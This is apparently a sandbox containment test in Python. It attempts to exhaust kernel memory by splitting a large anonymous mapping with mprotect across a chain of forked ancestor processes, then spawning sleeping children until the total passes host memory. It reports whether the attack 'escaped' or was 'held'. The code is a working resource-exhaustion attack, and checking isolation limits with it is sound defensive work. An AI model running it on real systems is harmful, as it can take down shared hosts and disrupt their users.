# tries: to use the kernel's memory through mappings that it links to each process that a process descends from
# must: held or killed: at the limit
import ctypes
import os
import time

from attempt import escaped, held, host

PAGES, ANCESTORS, LINK = 24_000, 24, 64
PRIVATE_ANONYMOUS_NORESERVE = 0x4022

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
size = os.sysconf("SC_PAGE_SIZE")
start = libc.mmap(None, PAGES * size, 3, PRIVATE_ANONYMOUS_NORESERVE, -1, 0)
ctypes.c_char.from_address(start).value = b"x"  # only what has had a page is linked
try:
    for _ in range(ANCESTORS):
        if os.fork():
            time.sleep(60)
            os._exit(0)
    total, processes = 0, 0
    while total < host.memory * 5 // 4:
        if processes == 0:
            for page in range(0, PAGES, 2):
                libc.mprotect(start + page * size, size, 1)
        elif os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        processes += 1
        total += PAGES * ANCESTORS * LINK
    time.sleep(2)
    escaped("%d processes with %d mappings and %d ancestors" % (processes, PAGES, ANCESTORS))
except OSError as error:
    held(error)
os._exit(0)
